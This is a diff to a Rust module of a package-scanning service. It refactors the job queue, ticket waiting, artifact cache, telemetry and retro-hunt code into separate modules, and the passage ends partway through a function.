@@ -1,28 +1,26 @@
-//! The streaming scan service: sharded workers, bounded ingestion queue,
-//! digest caches (verdicts per request, artifacts per file), prefilter
-//! routing, decoded-layer scanning, per-stage latency telemetry and a
-//! scan-trace flight recorder.
+//! The streaming scan service: [`ScanHub`] composes the bounded
+//! ingestion queue, the worker pool, the digest caches (verdicts per
+//! request, artifacts per file), the prefilter index, the retro-hunt
+//! index and the hub's telemetry behind one submit/wait API.
 
-use std::collections::{HashSet, VecDeque};
-use std::sync::atomic::AtomicU64;
-use std::sync::{Arc, Condvar, Mutex};
+use std::sync::{Arc, Mutex};
 use std::thread::JoinHandle;
-use std::time::{Duration, Instant};
+use std::time::Instant;
 
-use semgrep_engine::{CompiledSemgrepRules, MatchScratch, MatchSet, SemgrepMetrics};
-use telemetry::{FlightRecorder, Histogram, Registry};
-use yara_engine::{CompiledRules, ScanScratch, Scanner};
+use semgrep_engine::CompiledSemgrepRules;
+use yara_engine::CompiledRules;
 
-use crate::artifact::{ArtifactConfig, FileAnalysis};
-use crate::cache::{ArtifactCache, DigestKey, VerdictCache};
-use crate::prefilter::{PrefilterIndex, PrefilterScratch, Routing, RuleEngine};
+use crate::artifact::ArtifactConfig;
+use crate::cache::VerdictCache;
+use crate::metrics::{HubCounters, HubStats, HubTelemetry, StageNanos};
+use crate::prefilter::PrefilterIndex;
+use crate::queue::{Job, JobQueue, Ticket};
 use crate::request::ScanRequest;
-use crate::retrohunt::{
-    confirm_scan, ConfirmTask, RetroIndex, RetroReport, RuleDeployment, TermProvenance,
-};
-use crate::stats::{HubCounters, HubStats, LatencyStat, StageLatencies};
-use crate::trace::{fired_from_verdict, ScanTrace, StageNanos};
-use crate::verdict::{FlowRecord, LayerFinding, Verdict};
+use crate::retrohunt::{self, RetroReport, RuleDeployment};
+use crate::store::ArtifactStore;
+use crate::trace::ScanTrace;
+use crate::verdict::Verdict;
+use crate::worker::worker_loop;
 
 /// Service tuning knobs.
 #[derive(Debug, Clone)]
@@ -83,449 +81,18 @@ impl Default for HubConfig {
     }
 }
 
-struct QueueState {
-    jobs: VecDeque<Job>,
-    closed: bool,
-}
-
-struct Job {
-    request: ScanRequest,
-    digest: Option<DigestKey>,
-    ticket: Arc<TicketState>,
-    /// Submit-entry timestamp (`None` when telemetry is off): the origin
-    /// for end-to-end wall time.
-    submitted_at: Option<Instant>,
-    /// Enqueue timestamp; pop-minus-enqueue is the queue-wait stage.
-    enqueued_at: Option<Instant>,
-    /// Digest + verdict-cache lookup time already spent on the submit
-    /// path, attributed to this job's `cache` stage.
-    cache_ns: u64,
-}
-
-struct TicketState {
-    slot: Mutex<Option<Result<Verdict, String>>>,
-    ready: Condvar,
-}
-
-impl TicketState {
-    fn fulfill(&self, outcome: Result<Verdict, String>) {
-        *self.slot.lock().expect("ticket lock") = Some(outcome);
-        self.ready.notify_all();
-    }
-}
-
-/// A claim on one submitted package's verdict.
-#[must_use = "a ticket must be waited on to observe the verdict"]
-pub struct Ticket {
-    state: Arc<TicketState>,
-}
-
-impl Ticket {
-    fn ready(verdict: Verdict) -> Self {
-        Ticket {
-            state: Arc::new(TicketState {
-                slot: Mutex::new(Some(Ok(verdict))),
-                ready: Condvar::new(),
-            }),
-        }
-    }
-
-    /// Blocks until the verdict is available.
-    ///
-    /// # Panics
-    ///
-    /// Propagates a worker panic that occurred while scanning this
-    /// request (the worker itself survives and keeps serving the queue).
-    pub fn wait(&self) -> Verdict {
-        let mut slot = self.state.slot.lock().expect("ticket lock");
-        loop {
-            match slot.as_ref() {
-                Some(Ok(v)) => return v.clone(),
-                Some(Err(msg)) => panic!("{msg}"),
-                None => slot = self.state.ready.wait(slot).expect("ticket wait"),
-            }
-        }
-    }
-
-    /// Blocks for at most `timeout`; returns `None` if the verdict is
-    /// still pending when the deadline passes (the ticket stays valid —
-    /// wait again later).
-    ///
-    /// # Panics
-    ///
-    /// Propagates a worker panic, exactly like [`Ticket::wait`].
-    pub fn wait_timeout(&self, timeout: Duration) -> Option<Verdict> {
-        let deadline = Instant::now().checked_add(timeout);
-        let mut slot = self.state.slot.lock().expect("ticket lock");
-        loop {
-            match slot.as_ref() {
-                Some(Ok(v)) => return Some(v.clone()),
-                Some(Err(msg)) => panic!("{msg}"),
-                // A deadline `Instant` can't represent (`Duration::MAX`
-                // overflows `checked_add`) is infinitely far away, not
-                // already expired: block exactly like `wait()`.
-                None => match deadline {
-                    None => slot = self.state.ready.wait(slot).expect("ticket wait"),
-                    Some(deadline) => {
-                        let remaining = deadline
-                            .checked_duration_since(Instant::now())
-                            .filter(|r| !r.is_zero())?;
-                        let (guard, _timed_out) = self
-                            .state
-                            .ready
-                            .wait_timeout(slot, remaining)
-                            .expect("ticket wait");
-                        slot = guard;
-                    }
-                },
-            }
-        }
-    }
-}
-
-/// One `Instant` origin for a chain of sequential stage measurements;
-/// `lap` returns the nanoseconds since the previous lap. Reads **no
-/// clock at all** when telemetry is disabled (every lap is 0).
-struct StageClock {
-    last: Option<Instant>,
-}
-
-impl StageClock {
-    fn start(enabled: bool) -> Self {
-        StageClock {
-            last: enabled.then(Instant::now),
-        }
-    }
-
-    fn lap(&mut self) -> u64 {
-        match &mut self.last {
-            None => 0,
-            Some(last) => {
-                let now = Instant::now();
-                let ns = now.duration_since(*last).as_nanos() as u64;
-                *last = now;
-                ns
-            }
-        }
-    }
-}
-
-/// Hub-owned metrics: the registry, one histogram per pipeline stage,
-/// the end-to-end scan histogram, and the trace flight recorder.
-struct HubTelemetry {
-    registry: Arc<Registry>,
-    recorder: FlightRecorder<ScanTrace>,
-    queue: Arc<Histogram>,
-    cache: Arc<Histogram>,
-    artifact: Arc<Histogram>,
-    /// Incremental diff-and-splice builds. Samples are nested inside
-    /// `artifact` laps (a splice is one way an artifact build resolves).
-    splice: Arc<Histogram>,
-    prefilter: Arc<Histogram>,
-    yara: Arc<Histogram>,
-    layers: Arc<Histogram>,
-    semgrep: Arc<Histogram>,
-    dataflow: Arc<Histogram>,
-    verdict: Arc<Histogram>,
-    scan: Arc<Histogram>,
-    /// Retro-hunt stages: index query (one sample per hunt) and
-    /// per-digest confirm scans.
-    retro_query: Arc<Histogram>,
-    retro_confirm: Arc<Histogram>,
-}
-
-const STAGE_HIST: &str = "scanhub_stage_duration_ns";
-const STAGE_HELP: &str = "Per-stage scan pipeline latency in nanoseconds";
-
-impl HubTelemetry {
-    fn new(enabled: bool, trace_capacity: usize) -> Self {
-        let registry = Arc::new(Registry::new());
-        registry.set_enabled(enabled);
-        let stage = |name| registry.histogram_with(STAGE_HIST, STAGE_HELP, &[("stage", name)]);
-        HubTelemetry {
-            queue: stage("queue"),
-            cache: stage("cache"),
-            artifact: stage("artifact"),
-            splice: stage("splice"),
-            prefilter: stage("prefilter"),
-            yara: stage("yara"),
-            layers: stage("layers"),
-            semgrep: stage("semgrep"),
-            dataflow: stage("dataflow"),
-            verdict: stage("verdict"),
-            retro_query: stage("retro_query"),
-            retro_confirm: stage("retro_confirm"),
-            scan: registry.histogram(
-                "scanhub_scan_duration_ns",
-                "End-to-end submit-to-verdict wall time in nanoseconds",
-            ),
-            recorder: FlightRecorder::new(trace_capacity),
-            registry,
-        }
-    }
-
-    fn enabled(&self) -> bool {
-        self.registry.enabled()
-    }
-
-    /// Records one request's stage laps and wall time. Stages that did
-    /// not run (lap 0) stay out of their histograms so per-stage
-    /// percentiles describe the stage's actual executions; the trace
-    /// keeps the raw zeros.
-    fn record(&self, stages: &StageNanos, wall_ns: u64) {
-        let pairs = [
-            (&self.queue, stages.queue),
-            (&self.cache, stages.cache),
-            (&self.artifact, stages.artifact),
-            (&self.splice, stages.splice),
-            (&self.prefilter, stages.prefilter),
-            (&self.yara, stages.yara),
-            (&self.layers, stages.layers),
-            (&self.semgrep, stages.semgrep),
-            (&self.dataflow, stages.dataflow),
-            (&self.verdict, stages.verdict),
-        ];
-        for (hist, ns) in pairs {
-            if ns > 0 {
-                hist.record(ns);
-            }
-        }
-        self.scan.record(wall_ns);
-    }
-
-    /// Records a trace, assigning its `seq` under the ring lock so ring
-    /// order and sequence order agree even across racing workers. Takes
-    /// a constructor rather than a built trace: when the ring is
-    /// disabled (`trace_capacity: 0`) the trace — fired-rule expansion
-    /// included — is never materialized at all.
-    fn push_trace(&self, make: impl FnOnce(u64) -> ScanTrace) {
-        self.recorder.record_with(make);
-    }
-
-    /// The percentile view [`ScanHub::stats`] overlays onto the counter
-    /// snapshot.
-    fn latencies(&self) -> StageLatencies {
-        let stat = |h: &Histogram| LatencyStat::from_snapshot(&h.snapshot());
-        StageLatencies {
-            queue: stat(&self.queue),
-            cache: stat(&self.cache),
-            artifact: stat(&self.artifact),
-            splice: stat(&self.splice),
-            prefilter: stat(&self.prefilter),
-            yara: stat(&self.yara),
-            layers: stat(&self.layers),
-            semgrep: stat(&self.semgrep),
-            dataflow: stat(&self.dataflow),
-            verdict: stat(&self.verdict),
-            retro_query: stat(&self.retro_query),
-            retro_confirm: stat(&self.retro_confirm),
-            scan: stat(&self.scan),
-        }
-    }
-}
-
-/// The shared artifact cache plus a single-flight registry: when two
-/// workers race on the same cold digest, one builds and the others
-/// wait, so a hub run performs **exactly one** analysis per unique file
-/// digest regardless of worker count — the invariant the parse-count
-/// property test pins.
-struct ArtifactStore {
-    cache: Mutex<ArtifactCache>,
-    inflight: Mutex<std::collections::HashMap<DigestKey, Arc<InflightSlot>>>,
-    /// The retro-hunt posting index, kept in lockstep with cache
-    /// residency on the publish path. Lock discipline: never held
-    /// together with `cache` — publish inserts into the cache, drops
-    /// that guard, then updates the index with the eviction report.
-    retro: Option<Mutex<RetroIndex>>,
-    /// Sibling registry: file name (registry-relative path) → digest of
-    /// the newest artifact built under that name. On a digest miss the
-    /// hub looks the name up here and, if the previous version is still
-    /// cache-resident, builds the new artifact by diff-and-splice
-    /// instead of a full reparse. Names are a hint, never an identity:
-    /// a stale or evicted mapping only costs a full build. Bounded by
-    /// periodic pruning against cache residency (see
-    /// [`ArtifactStore::record_sibling`]).
-    siblings: Mutex<std::collections::HashMap<String, DigestKey>>,
-    /// Artifact-cache capacity, kept for sibling-registry pruning.
-    capacity: usize,
-}
-
-enum InflightState {
-    Building,
-    Ready(Arc<FileAnalysis>),
-    /// The building worker panicked before publishing; waiters go back
-    /// and re-claim instead of hanging.
-    Abandoned,
-}
-
-struct InflightSlot {
-    state: Mutex<InflightState>,
-    ready: Condvar,
-}
-
-/// A claimed build: the holder is the unique builder for `digest` until
-/// it publishes. Dropping the claim without publishing (a panic while
-/// analyzing a hostile file) abandons the slot and wakes any waiters so
-/// they can rebuild rather than deadlock.
-struct BuildClaim<'a> {
-    store: &'a ArtifactStore,
-    digest: DigestKey,
-    published: bool,
-}
-
-impl BuildClaim<'_> {
-    fn publish(mut self, artifact: &Arc<FileAnalysis>) {
-        let evicted = self
-            .store
-            .cache
-            .lock()
-            .expect("artifact cache lock")
-            .insert(self.digest, Arc::clone(artifact));
-        if let Some(retro) = &self.store.retro {
-            let mut retro = retro.lock().expect("retro index lock");
-            for digest in &evicted {
-                retro.remove(digest);
-            }
-            retro.insert_artifact(artifact);
-        }
-        self.store
-            .resolve(&self.digest, InflightState::Ready(Arc::clone(artifact)));
-        self.published = true;
-    }
-}
-
-impl Drop for BuildClaim<'_> {
-    fn drop(&mut self) {
-        if !self.published {
-            self.store.resolve(&self.digest, InflightState::Abandoned);
-        }
-    }
-}
-
-impl ArtifactStore {
-    fn new(capacity: usize, retro_index: bool) -> Self {
-        ArtifactStore {
-            cache: Mutex::new(ArtifactCache::new(capacity)),
-            inflight: Mutex::new(std::collections::HashMap::new()),
-            retro: retro_index.then(|| Mutex::new(RetroIndex::new())),
-            siblings: Mutex::new(std::collections::HashMap::new()),
-            capacity,
-        }
-    }
-
-    /// The cache-resident artifact previously built under this file
-    /// name, if any — the splice donor for the next version of the same
-    /// file. Uses [`LruCache::peek`] so sibling reads never refresh
-    /// recency: an old version must not be kept alive over hot entries
-    /// just because new versions keep diffing against it.
-    fn sibling(&self, name: &str) -> Option<Arc<FileAnalysis>> {
-        let digest = *self
-            .siblings
-            .lock()
-            .expect("sibling registry lock")
-            .get(name)?;
-        self.cache
-            .lock()
-            .expect("artifact cache lock")
-            .peek(&digest)
-            .cloned()
-    }
-
-    /// Records `digest` as the newest artifact built under `name`.
-    /// When the registry outgrows cache residency by 4x (names whose
-    /// digests were long since evicted), drops every mapping that no
-    /// longer points at a resident artifact.
-    fn record_sibling(&self, name: &str, digest: DigestKey) {
-        let mut siblings = self.siblings.lock().expect("sibling registry lock");
-        siblings.insert(name.to_owned(), digest);
-        if siblings.len() > self.capacity.saturating_mul(4).max(16) {
-            let cache = self.cache.lock().expect("artifact cache lock");
-            siblings.retain(|_, d| cache.peek(d).is_some());
-        }
-    }
-
-    /// Returns the cached artifact, or the build claim when this caller
-    /// is elected to build; blocks behind another worker's in-progress
-    /// build of the same digest.
-    fn get_or_claim(&self, digest: &DigestKey) -> Result<Arc<FileAnalysis>, BuildClaim<'_>> {
-        loop {
-            if let Some(artifact) = self.cache.lock().expect("artifact cache lock").get(digest) {
-                return Ok(artifact);
-            }
-            let (slot, leader) = {
-                let mut inflight = self.inflight.lock().expect("inflight lock");
-                match inflight.get(digest) {
-                    Some(slot) => (Arc::clone(slot), false),
-                    None => {
-                        let slot = Arc::new(InflightSlot {
-                            state: Mutex::new(InflightState::Building),
-                            ready: Condvar::new(),
-                        });
-                        inflight.insert(*digest, Arc::clone(&slot));
-                        (slot, true)
-                    }
-                }
-            };
-            if leader {
-                let claim = BuildClaim {
-                    store: self,
-                    digest: *digest,
-                    published: false,
-                };
-                // Close the check/claim race: a previous leader may have
-                // published (cache insert happens before its inflight
-                // slot is removed) between our cache miss and our
-                // election. Re-checking under a fresh claim guarantees a
-                // published digest is never rebuilt; publishing the
-                // cached artifact releases any waiters already parked on
-                // our slot.
-                let published = self.cache.lock().expect("artifact cache lock").get(digest);
-                if let Some(artifact) = published {
-                    claim.publish(&artifact);
-                    return Ok(artifact);
-                }
-                return Err(claim);
-            }
-            let mut state = slot.state.lock().expect("inflight slot lock");
-            loop {
-                match &*state {
-                    InflightState::Building => {
-                        state = slot.ready.wait(state).expect("inflight wait");
-                    }
-                    InflightState::Ready(artifact) => return Ok(Arc::clone(artifact)),
-                    InflightState::Abandoned => break,
-                }
-            }
-            // The builder gave up: retry from the top (cache re-check,
-            // fresh claim).
-        }
-    }
-
-    /// Removes the inflight slot for `digest` and wakes its waiters
-    /// with the final state.
-    fn resolve(&self, digest: &DigestKey, outcome: InflightState) {
-        let slot = self.inflight.lock().expect("inflight lock").remove(digest);
-        if let Some(slot) = slot {
-            *slot.state.lock().expect("inflight slot lock") = outcome;
-            slot.ready.notify_all();
-        }
-    }
-}
-
-struct Shared {
-    yara: Option<CompiledRules>,
-    semgrep: Option<CompiledSemgrepRules>,
-    index: PrefilterIndex,
-    prefilter: bool,
-    artifact_config: ArtifactConfig,
-    queue: Mutex<QueueState>,
-    not_empty: Condvar,
-    not_full: Condvar,
-    capacity: usize,
-    cache: Option<Mutex<VerdictCache>>,
-    artifacts: Option<ArtifactStore>,
-    counters: HubCounters,
-    telemetry: HubTelemetry,
+/// Everything the submit path and the workers share.
+pub(crate) struct Shared {
+    pub yara: Option<CompiledRules>,
+    pub semgrep: Option<CompiledSemgrepRules>,
+    pub index: PrefilterIndex,
+    pub prefilter: bool,
+    pub artifact_config: ArtifactConfig,
+    pub queue: JobQueue,
+    pub cache: Option<Mutex<VerdictCache>>,
+    pub artifacts: Option<ArtifactStore>,
+    pub counters: HubCounters,
+    pub telemetry: HubTelemetry,
 }
 
 /// A streaming scan service over one compiled rule bundle.
@@ -555,15 +122,8 @@ impl ScanHub {
             artifact_config: ArtifactConfig {
                 max_decode_depth: config.max_decode_depth,
                 dataflow: config.dataflow,
-                ..ArtifactConfig::default()
             },
-            queue: Mutex::new(QueueState {
-                jobs: VecDeque::new(),
-                closed: false,
-            }),
-            not_empty: Condvar::new(),
-            not_full: Condvar::new(),
-            capacity: config.queue_capacity.max(1),
+            queue: JobQueue::new(config.queue_capacity),
             cache: (config.cache_capacity > 0)
                 .then(|| Mutex::new(VerdictCache::new(config.cache_capacity))),
             artifacts: (config.artifact_cache_capacity > 0)
@@ -615,130 +175,9 @@ impl ScanHub {
     /// the differential suite; only the candidate/scan counts differ,
     /// which is exactly the speedup.
     pub fn retro_hunt(&self, deployment: &RuleDeployment) -> Option<RetroReport> {
-        let store = self.shared.artifacts.as_ref()?;
-        let retro = store.retro.as_ref()?;
-        let telemetry_on = self.shared.telemetry.enabled();
-        let query_clock = telemetry_on.then(Instant::now);
-        let counters = &self.shared.counters;
-        HubCounters::add(&counters.retro_hunts, 1);
-
-        let changed = &deployment.delta.changed;
-        let (yara_len, semgrep_len) = deployment.subset_lens();
-        let mut plan: std::collections::HashMap<DigestKey, (Vec<bool>, Vec<bool>)> =
-            std::collections::HashMap::new();
-        let mut per_rule_candidates: Vec<u64> = vec![0; changed.len()];
-        let mut candidates_total = 0u64;
-        let mut full_candidacy_rules = 0u64;
-        let digests_indexed;
-        {
-            let retro = retro.lock().expect("retro index lock");
-            digests_indexed = retro.digest_count() as u64;
-            for (ci, rule) in changed.iter().enumerate() {
-                // Candidates for this rule: `None` means "cannot gate —
-                // full candidacy" (no exhaustive atom set). Sub-gram
-                // atoms answer exactly from the 1/2-gram postings.
-                let gated: Option<Vec<(DigestKey, bool)>> = if !rule.exhaustive {
-                    None
-                } else if rule.atoms.is_empty() {
-                    // Exhaustive and atomless: the rule can never match
-                    // (`condition: false`), so zero candidates is sound.
-                    Some(Vec::new())
-                } else {
-                    let mut acc: std::collections::HashMap<DigestKey, bool> =
-                        std::collections::HashMap::new();
-                    let mut fallback = false;
-                    for atom in &rule.atoms {
-                        let Some(surface) =
-                            retro.candidates_for_atom(atom, TermProvenance::Surface)
-                        else {
-                            fallback = true;
-                            break;
-                        };
-                        match rule.engine {
-                            // YARA scans raw bytes and every decoded
-                            // layer; any-of atom semantics unions.
-                            RuleEngine::Yara => {
-                                acc.extend(surface);
-                                let layer = retro
-                                    .candidates_for_atom(atom, TermProvenance::Layer)
-                                    .expect("same atom was surface-queryable");
-                                acc.extend(layer);
-                            }
-                            // Semgrep parses Python surface text only.
-                            RuleEngine::Semgrep => {
-                                acc.extend(surface.into_iter().filter(|(_, python)| *python));
-                            }
-                        }
-                    }
-                    (!fallback).then(|| acc.into_iter().collect())
-                };
-                let list: Vec<(DigestKey, bool)> = match gated {
-                    Some(list) => list,
-                    None => {
-                        full_candidacy_rules += 1;
-                        let all = retro.all_digests();
-                        match rule.engine {
-                            RuleEngine::Yara => all,
-                            RuleEngine::Semgrep => {
-                                all.into_iter().filter(|(_, python)| *python).collect()
-                            }
-                        }
-                    }
-                };
-                per_rule_candidates[ci] = list.len() as u64;
-                candidates_total += list.len() as u64;
-                let subset = deployment.subset_pos[ci];
-                for (digest, _) in list {
-                    let entry = plan
-                        .entry(digest)
-                        .or_insert_with(|| (vec![false; yara_len], vec![false; semgrep_len]));
-                    match rule.engine {
-                        RuleEngine::Yara => entry.0[subset] = true,
-                        RuleEngine::Semgrep => entry.1[subset] = true,
-                    }
-                }
-            }
-        }
-        if let Some(start) = query_clock {
-            self.shared
-                .telemetry
-                .retro_query
-                .record(start.elapsed().as_nanos() as u64);
-        }
-
-        let mut tasks: Vec<ConfirmTask> = plan
-            .into_iter()
-            .map(|(digest, (yara_mask, semgrep_mask))| ConfirmTask {
-                digest,
-                yara_mask,
-                semgrep_mask,
-            })
-            .collect();
-        tasks.sort_by_key(|a| a.digest);
-        let outcome = confirm_scan(
-            deployment,
-            &tasks,
-            |d| store.cache.lock().expect("artifact cache lock").get(d),
-            |ns| {
-                if telemetry_on {
-                    self.shared.telemetry.retro_confirm.record(ns);
-                }
-            },
-        );
-        HubCounters::add(&counters.retro_candidates, candidates_total);
-        HubCounters::add(&counters.retro_confirm_scans, outcome.scans);
-        let mut rules = outcome.rules;
-        for (rule, candidates) in rules.iter_mut().zip(per_rule_candidates) {
-            rule.candidates = candidates;
-        }
-        Some(RetroReport {
-            rules,
-            verdicts: outcome.verdicts,
-            digests_indexed,
-            candidates: candidates_total,
-            confirm_scans: outcome.scans,
-            full_candidacy_rules,
-        })
+        let shared = &self.shared;
+        let store = shared.artifacts.as_ref()?;
+        retrohunt::hunt(store, deployment, &shared.counters, &shared.telemetry)
     }
 
     /// The exhaustive oracle: confirm-scans **every** resident digest
@@ -747,65 +186,27 @@ impl ScanHub {
     /// differential suite compares [`ScanHub::retro_hunt`] against.
     /// Touches none of the retro counters or histograms.
     pub fn retro_rescan(&self, deployment: &RuleDeployment) -> Option<RetroReport> {
-        let store = self.shared.artifacts.as_ref()?;
-        let retro = store.retro.as_ref()?;
-        let (yara_len, semgrep_len) = deployment.subset_lens();
-        let all = retro.lock().expect("retro index lock").all_digests();
-        let mut tasks: Vec<ConfirmTask> = all
-            .iter()
-            .map(|(digest, _)| ConfirmTask {
-                digest: *digest,
-                yara_mask: vec![true; yara_len],
-                semgrep_mask: vec![true; semgrep_len],
-            })
-            .collect();
-        tasks.sort_by_key(|a| a.digest);
-        let outcome = confirm_scan(
-            deployment,
-            &tasks,
-            |d| store.cache.lock().expect("artifact cache lock").get(d),
-            |_| {},
-        );
-        let mut rules = outcome.rules;
-        for rule in rules.iter_mut() {
-            rule.candidates = all.len() as u64;
-        }
-        Some(RetroReport {
-            rules,
-            verdicts: outcome.verdicts,
-            digests_indexed: all.len() as u64,
-            candidates: deployment.delta.changed.len() as u64 * all.len() as u64,
-            confirm_scans: outcome.scans,
-            full_candidacy_rules: deployment.delta.changed.len() as u64,
-        })
+        retrohunt::rescan(self.shared.artifacts.as_ref()?, deployment)
     }
 
     /// A snapshot of the service counters plus per-stage latency
     /// percentiles (zeroed when telemetry is off).
     pub fn stats(&self) -> HubStats {
         let mut stats = self.shared.counters.snapshot();
-        stats.latency = self.shared.telemetry.latencies();
-        let (atoms, digests) = self.retro_index_size();
-        stats.retro_index_atoms = atoms;
-        stats.retro_index_digests = digests;
+        stats.latency = self.shared.telemetry.stages.latencies();
+        (stats.retro_index_atoms, stats.retro_index_digests) = self.retro_index_size();
         stats.artifact_bytes_resident = self.artifact_bytes_resident();
         stats.engine = textmatch::engine_counters();
         stats
     }
 
     /// Estimated heap bytes of every artifact resident in the artifact
-    /// cache (sum of per-artifact [`FileAnalysis::stored_bytes`]); 0
-    /// when the cache is disabled. A point-in-time gauge — capacity
+    /// cache (sum of per-artifact [`crate::FileAnalysis::stored_bytes`]);
+    /// 0 when the cache is disabled. A point-in-time gauge — capacity
     /// bounds entry count, this reports what those entries weigh.
     pub fn artifact_bytes_resident(&self) -> u64 {
-        self.shared.artifacts.as_ref().map_or(0, |s| {
-            s.cache
-                .lock()
-                .expect("artifact cache lock")
-                .values()
-                .map(|a| a.stored_bytes() as u64)
-                .sum()
-        })
+        let store = self.shared.artifacts.as_ref();
+        store.map_or(0, ArtifactStore::resident_bytes)
     }
 
     /// Current retro-index size as `(indexed terms, live digests)` —
@@ -813,16 +214,8 @@ impl ScanHub {
     /// 3-grams (the realization of atom posting lists), so the gauge
     /// tracks index growth independent of which atoms rules use.
     pub fn retro_index_size(&self) -> (u64, u64) {
-        let Some(retro) = self
-            .shared
-            .artifacts
-            .as_ref()
-            .and_then(|s| s.retro.as_ref())
-        else {
-            return (0, 0);
-        };
-        let retro = retro.lock().expect("retro index lock");
-        (retro.term_count() as u64, retro.digest_count() as u64)
+        let store = self.shared.artifacts.as_ref();
+        store.map_or((0, 0), ArtifactStore::retro_size)
     }
 
     /// Whether per-stage timing and trace recording are on.
@@ -860,208 +253,20 @@ impl ScanHub {
     /// Renders every hub metric — counters, gauges and stage histograms
     /// — in the Prometheus text exposition format.
     pub fn export_prometheus(&self) -> String {
-        self.mirror_counters();
-        self.shared.telemetry.registry.render_prometheus()
+        self.mirrored().render_prometheus()
     }
 
     /// Renders every hub metric as a JSON document.
     pub fn export_json(&self) -> jsonmini::Value {
-        self.mirror_counters();
-        self.shared.telemetry.registry.render_json()
+        self.mirrored().render_json()
     }
 
-    /// Copies the hot-path counters into registry metrics at export
-    /// time: the scan path keeps writing plain relaxed atomics and the
-    /// registry stays the single rendering point.
-    fn mirror_counters(&self) {
-        let reg = &self.shared.telemetry.registry;
-        let stats = self.shared.counters.snapshot();
-        for (name, help, value) in [
-            (
-                "scanhub_submitted_total",
-                "Packages submitted",
-                stats.submitted,
-            ),
-            (
-                "scanhub_completed_total",
-                "Packages fully processed",
-                stats.completed,
-            ),
-            (
-                "scanhub_cache_hits_total",
-                "Verdict-cache hits",
-                stats.cache_hits,
-            ),
-            (
-                "scanhub_bytes_scanned_total",
-                "Buffer bytes scanned",
-                stats.bytes_scanned,
-            ),
-            (
-                "scanhub_artifact_parses_total",
-                "File entries analyzed from scratch",
-                stats.artifact_parses,
-            ),
-            (
-                "scanhub_artifact_cache_hits_total",
-                "File entries served from the artifact cache",
-                stats.artifact_cache_hits,
-            ),
-            (
-                "scanhub_incremental_relexes_total",
-                "Artifacts built by diff-and-splice against a cached sibling",
-                stats.incremental_relexes,
-            ),
-            (
-                "scanhub_splice_fallbacks_total",
-                "Splice attempts that fell back to a full reparse",
-                stats.splice_fallbacks,
-            ),
-            (
-                "scanhub_relexed_bytes_total",
-                "Bytes re-lexed by incremental splice windows",
-                stats.relexed_bytes,
-            ),
-            (
-                "scanhub_layers_decoded_total",
-                "Decoded payload layers extracted",
-                stats.layers_decoded,
-            ),
-            (
-                "scanhub_taint_analyses_total",
-                "Taint analyses run at artifact-build time",
-                stats.taint_analyses,
-            ),
-            (
-                "scanhub_flows_found_total",
-                "Source-to-sink taint flows found",
-                stats.flows_found,
-            ),
-            (
-                "scanhub_consts_folded_total",
-                "Constant strings folded into synthetic layers",
-                stats.consts_folded,
-            ),
-            (
-                "scanhub_yara_rules_evaluated_total",
-                "YARA condition evaluations",
-                stats.yara_rules_evaluated,
-            ),
-            (
-                "scanhub_yara_rules_skipped_total",
-                "YARA evaluations skipped by the prefilter",
-                stats.yara_rules_skipped,
-            ),
-            (
-                "scanhub_semgrep_rules_evaluated_total",
-                "Semgrep rule evaluations",
-                stats.semgrep_rules_evaluated,
-            ),
-            (
-                "scanhub_semgrep_rules_skipped_total",
-                "Semgrep evaluations skipped by the prefilter",
-                stats.semgrep_rules_skipped,
-            ),
-            (
-                "scanhub_retro_hunts_total",
-                "Retro-hunt deployments executed",
-                stats.retro_hunts,
-            ),
-            (
-                "scanhub_retro_candidates_total",
-                "Digests nominated by the retro index across all hunts",
-                stats.retro_candidates,
-            ),
-            (
-                "scanhub_retro_confirm_scans_total",
-                "Digests confirm-scanned by retro-hunts",
-                stats.retro_confirm_scans,
-            ),
-        ] {
-            reg.counter(name, help).set(value);
-        }
-        // Matching-tier counters from the textmatch engine. These are
-        // process-global (the tiers run inside per-scan hot loops with
-        // no hub handle), so two hubs in one process export the same
-        // values — still monotonic, still safe to rate().
-        let eng = textmatch::engine_counters();
-        for (name, help, value) in [
-            (
-                "textmatch_teddy_scans_total",
-                "Multi-literal scans served by the Teddy prefilter tier",
-                eng.teddy_scans,
-            ),
-            (
-                "textmatch_teddy_bytes_scanned_total",
-                "Haystack bytes classified by the Teddy SWAR loop",
-                eng.teddy_bytes_scanned,
-            ),
-            (
-                "textmatch_teddy_chunks_classified_total",
-                "8-start chunks examined by the Teddy classifier",
-                eng.teddy_chunks_classified,
-            ),
-            (
-                "textmatch_teddy_chunks_verified_total",
-                "Chunks whose candidate mask required bucket verification",
-                eng.teddy_chunks_verified,
-            ),
-            (
-                "textmatch_ac_fallback_scans_total",
-                "Multi-literal scans routed to the Aho-Corasick fallback",
-                eng.ac_fallback_scans,
-            ),
-            (
-                "textmatch_dfa_scans_total",
-                "Regex scans where the lazy DFA ran",
-                eng.dfa_scans,
-            ),
-            (
-                "textmatch_dfa_states_built_total",
-                "Lazy-DFA states determinized on demand",
-                eng.dfa_states_built,
-            ),
-            (
-                "textmatch_dfa_cache_flushes_total",
-                "Bounded-cache overflows that flushed the DFA state table",
-                eng.dfa_cache_flushes,
-            ),
-            (
-                "textmatch_pikevm_fallbacks_total",
-                "Scans abandoned by a thrashing DFA and re-run on the Pike VM",
-                eng.pikevm_fallbacks,
-            ),
-        ] {
-            reg.counter(name, help).set(value);
-        }
-        let (retro_atoms, retro_digests) = self.retro_index_size();
-        reg.gauge(
-            "scanhub_retro_index_atoms",
-            "Distinct indexed retro-hunt terms (folded content 3-grams)",
-        )
-        .set(retro_atoms as i64);
-        reg.gauge(
-            "scanhub_retro_index_digests",
-            "Content digests resident in the retro-hunt index",
-        )
-        .set(retro_digests as i64);
-        reg.gauge("scanhub_cached_verdicts", "Verdicts currently cached")
-            .set(self.cached_verdicts() as i64);
-        reg.gauge(
-            "scanhub_cached_artifacts",
-            "File artifacts currently cached",
-        )
-        .set(self.cached_artifacts() as i64);
-        reg.gauge(
-            "scanhub_artifact_bytes_resident",
-            "Estimated heap bytes of all cache-resident file artifacts",
-        )
-        .set(self.artifact_bytes_resident() as i64);
-        reg.gauge(
-            "scanhub_flight_recorder_traces",
-            "Scan traces currently held in the flight recorder",
-        )
-        .set(self.shared.telemetry.recorder.len() as i64);
+    /// The registry, brought up to date with the counters and gauges.
+    fn mirrored(&self) -> &telemetry::Registry {
+        let (verdicts, artifacts) = (self.cached_verdicts(), self.cached_artifacts());
+        self.shared
+            .telemetry
+            .mirror(&self.stats(), verdicts, artifacts)
     }
 
     /// Number of verdicts currently cached.
@@ -1074,10 +279,7 @@ impl ScanHub {
 
     /// Number of per-file artifacts currently cached.
     pub fn cached_artifacts(&self) -> usize {
-        self.shared
-            .artifacts
-            .as_ref()
